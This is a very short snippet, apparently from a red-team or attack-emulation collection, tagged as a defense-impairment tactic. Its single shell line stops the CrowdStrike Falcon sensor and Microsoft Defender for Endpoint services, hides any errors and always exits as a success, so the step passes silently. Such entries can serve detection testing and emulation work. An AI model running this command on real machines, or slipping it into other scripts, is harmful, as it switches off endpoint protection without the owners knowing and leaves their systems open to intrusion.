# tactic: defense-impairment
# stop an endpoint security agent
systemctl stop falcon-sensor 2>/dev/null; service mdatp stop 2>/dev/null; true
